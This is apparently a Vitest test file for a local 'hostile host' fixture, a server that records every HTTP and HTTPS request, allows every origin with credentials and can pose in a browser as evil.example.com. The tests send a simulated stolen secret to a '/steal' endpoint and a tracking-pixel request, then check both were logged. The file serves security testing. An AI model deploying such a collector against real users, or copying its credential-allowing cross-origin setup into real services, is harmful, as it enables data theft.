import { request } from 'node:http';
import { request as secureRequest } from 'node:https';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type HostileHost, startHostileHost } from './hostile-host.ts';

let host: HostileHost;
beforeAll(async () => {
  host = await startHostileHost();
});
afterAll(() => host.close());

function send(address: string, method: string, body: string): Promise<Record<string, unknown>> {
  const open = address.startsWith('https:') ? secureRequest : request;
  return new Promise((resolve, reject) => {
    const call = open(
      address,
      { method, rejectUnauthorized: false, agent: false, headers: { origin: 'https://app.example.com' } },
      (response) => {
        response.resume();
        response.once('end', () => resolve({ status: response.statusCode, ...response.headers }));
      },
    );
    call.once('error', reject);
    call.end(body);
  });
}

describe('the hostile host', () => {
  it('the host records every request over HTTP and HTTPS, and allows every origin', async () => {
    const answer = await send(`${host.httpsOrigin}/steal?a=1`, 'POST', 'secret=1');
    expect(answer).toMatchObject({
      status: 200,
      'access-control-allow-origin': 'https://app.example.com',
      'access-control-allow-credentials': 'true',
    });
    await send(`${host.httpOrigin}/pixel`, 'GET', '');
    expect(host.requests()).toMatchObject([
      { scheme: 'https', method: 'POST', url: '/steal?a=1', body: 'secret=1' },
      { scheme: 'http', method: 'GET', url: '/pixel', body: '' },
    ]);
    host.clear();
    expect(host.requests()).toEqual([]);
  });

  it('the host can have any name in a browser', () => {
    expect(host.resolverRules('evil.example.com')).toBe(
      `MAP evil.example.com:80 127.0.0.1:${host.httpPort},MAP evil.example.com:443 127.0.0.1:${host.httpsPort}`,
    );
  });
});
